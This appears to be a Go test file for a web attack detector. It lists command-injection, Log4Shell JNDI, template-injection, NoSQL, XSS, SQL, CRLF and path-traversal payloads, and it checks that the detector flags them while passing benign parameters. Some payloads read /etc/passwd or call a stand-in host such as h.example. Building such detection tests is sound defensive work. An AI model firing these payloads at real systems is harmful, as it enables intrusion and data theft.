package detect_test

import (
	"net/url"
	"strings"
	"testing"

	"github.com/gatehouse-dev/caddy-gatehouse/securitylog/detect"
)

// payloads are attacks as they are typed, before a client encodes them.
var payloads = map[detect.Class][]string{
	detect.CmdI: {
		";sleep 5", "|sleep 7|", "&sleep 10&", "`sleep 10`", "$(sleep 10)", "(sleep 9)", "{sleep,5}", ";{sleep,5}", ";usleep 900000",
		"10.1.2.3;id", "10.1.2.3 | id", "10.1.2.3 & hostname", "& hostname &", "10.1.2.3 && whoami", "10.1.2.3 || whoami", "10.1.2.3\nid", "x;cat flag.txt",
		"10.1.2.3;{cat,/etc/passwd}", "10.1.2.3;cat${IFS}/etc/passwd", "10.1.2.3;cat</etc/passwd", ";cat `echo /etc/passwd`", ";cat *",
		";find / -name flag", ";kill -9 1", ";reboot", "& start calc.exe", ";host x.h.example", ";nl /etc/passwd", ";apt-get install nmap",
		";expr 123 + 456", "|expr 12 \\* 34", ";eval id", ";sudo id", ";. /etc/profile", ";$SHELL", "^|^whoami", ";w'h'oami", ";who$@ami",
		";while true;do id;done", ";for i in 1 2;do id;done", ";if [ 1 -eq 1 ];then sleep 5;fi", ";[ 1 = 1 ] && sleep 5",
		";X=$'cat\\x20/etc/passwd'&&$X", ";bash<<<$(base64 -d<<<aWQ=)", ";/???/??t /???/p??s??", "() { :;}; /bin/bash -c id",
		"for %i in (a b) do echo %i", "for /f \"tokens=*\" %i in ('ver') do echo %i", "if /i \"%x%\"==\"y\" ver",
		"& for /f \"tokens=*\" %i in ('whoami') do ping %i.h.example", "x -oProxyCommand=id", "' && sleep 5 && '", "\" || ping -c 3 h.example || \"",
		";print(md5(7));", "os.system('id')", "<!--#exec cmd=\"id\"-->", "powershell -nop -enc SQBFAFgA", "cmd.exe /c ver",
	},
	detect.Log4Shell: {
		"${jndi:ldap://h.example/a}", "${jndi:dns://h.example}", "${${lower:j}ndi:ldap://h/a}", "${${upper:j}ndi:rmi://h/a}",
		"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h/a}", "${${env:NONE:-j}ndi${env:NONE:-:}${env:NONE:-l}dap:/h/a}",
		"${jn${date:}di${date:':'}ldap://h/a}", "${j${k8s:k5:-ND}i:ldap://h/a}", "${jnd${upper:ı}:ldap://h/a}", "${jndi :ldap://h/a}",
		"${${lower:${lower:jndi}}:${lower:rmi}://h/a}", "${\\u006a\\u006e\\u0064\\u0069:ldap://h/a}", "${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://h/a}",
		"${${::-${::-$${::-j}}}}", "${base64:JHtqbmRpOmxkYXA6Ly9oL2F9}", "${env:HOME_SECRET}", "${script:javascript:7*7}", "＄{jndi:ldap://h/a}",
	},
	detect.SSTI: {
		"{{7*7}}", "${7*7}", "#{7*7}", "%{8*8}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{{config.items()}}", "@(7*7)", "[[${7*7}]]",
		"{{constructor.constructor('return 1')()}}", "{% import os %}{{os.system('id')}}",
	},
	detect.NoSQLi: {"{\"$gt\":\"\"}", "[$ne]=1", "'; db.users.drop(); //", "' && this.pin.match(/.*/)//", "{$regex:'.*'}"},
	detect.XSS: {
		"[1].map(alert)", "setTimeout(alert,0)", "Function('go()')()", "import('//h.example')", "<x @click=\"go()\">", "<a v-on:click=\"go()\">", "<b x-init=\"go()\">",
		"</script><script>go()</script>", "the name is <script>go()</script>", "'-alert(4)-'", "\\';alert(4)//",
	},
	detect.SQLi: {
		"char(97)+char(98)", "concat(0x61,0x62)", "@@version", "1 and 5=6-- x", "x'--", "x' || '1'='1", "elt(5=5,6)", "1 rlike (select 1)",
	},
	detect.CRLF: {"x\r\nSet-Cookie: a=b", "x\nLocation: //h.example", "x\r\nHTTP/1.1 200 OK"},
}

// TestPayloads puts each payload into a parameter as browsers and as careful clients encode it.
func TestPayloads(t *testing.T) {
	d := detect.New(detect.Options{})
	for class, texts := range payloads {
		for _, text := range texts {
			for _, escaped := range []string{url.QueryEscape(text), strings.ReplaceAll(url.PathEscape(text), "&", "%26")} {
				if found := d.Target("/s?lang=en&q=" + escaped); !found.Classes().Has(class) {
					t.Errorf("%s: %q: found %v", class, text, found)
				}
			}
		}
	}
}

// TestCommandParameters holds that a command alone is one where the parameter's name promises it, and a word anywhere else. The codes of
// countries and languages, and what players of a game or a package manager are told, are no commands.
func TestCommandParameters(t *testing.T) {
	d := detect.New(detect.Options{})
	for _, command := range []string{"id", "ls", "whoami", "uname", "shutdown", "dir", "ansible+all+-m+ping", "python3+x.py", "pipx+install+x", "chef-client+-i+x", "cat+/x", "ansible-galaxy+collection+install+a.b"} {
		for _, name := range []string{"cmd", "exec", "Command", "code"} {
			if found := d.Target("/p?" + name + "=" + command); !found.Classes().Has(detect.CmdI) && (name != "code" || command != "id") {
				t.Errorf("%s=%s: found %v", name, command, found)
			}
		}
		if found := d.Target("/p?q=" + command); found != nil && command[0] != 'a' {
			t.Errorf("q=%s: found %v", command, found)
		}
	}
	for _, pair := range []string{"code=id", "code=MD", "code=ps", "code=nl", "code=ab", "run=docker", "cli=npm", "shell=zsh-like", "command=say+hello+to+all", "command=install+now", "run=time", "cmd=open", "command=ls+is+a+nice+tool+of+all"} {
		if found := d.Target("/api/items?" + pair); found != nil {
			t.Errorf("%s: found %v", pair, found)
		}
	}
}

// TestLinksInTalk holds that the relative links of documents are none that a path is asked for by.
func TestLinksInTalk(t *testing.T) {
	d := detect.New(detect.Options{})
	for _, text := range []string{"[next](../../../notes/plan.md)", "![flow](../assets/x.png) in a page", "`../client/dist` - the build", "see [the policy](../../../../VERSIONING.md) for more", "CWE-35 Path Traversal: '.../...//'"} {
		if found := d.Target("/s?q=" + url.QueryEscape(text)); found != nil {
			t.Errorf("%q: found %v", text, found)
		}
	}
	for _, text := range []string{"[x](../../../etc/passwd)", "`../../../etc/passwd` - x", "[x]/../../../y", "the path '.../...//etc/passwd'", ".../...//"} {
		if found := d.Target("/s?q=" + url.QueryEscape(text)); !found.Classes().Has(detect.Traversal) {
			t.Errorf("%q: found %v", text, found)
		}
	}
}

// TestEqualsOfTheAttack holds that a query which is no list of parameters is read across its equals signs.
func TestEqualsOfTheAttack(t *testing.T) {
	d := detect.New(detect.Options{})
	for target, class := range map[string]detect.Class{
		"/x.cfm?<meta%20http-equiv=set-cookie%20content=%22a=b%22>": detect.XSS,
		"/x?%3Cimg%20src=q%20onerror=go()%3E":                       detect.XSS,
		"/x?'or'1'='1":                                              detect.SQLi,
		"/x?a=1&%27%20or%20name%20like%20%27%25=2":                  detect.SQLi,
	} {
		if found := d.Target(target); !found.Classes().Has(class) {
			t.Errorf("%s: found %v, want %s", target, found, class)
		}
	}
}
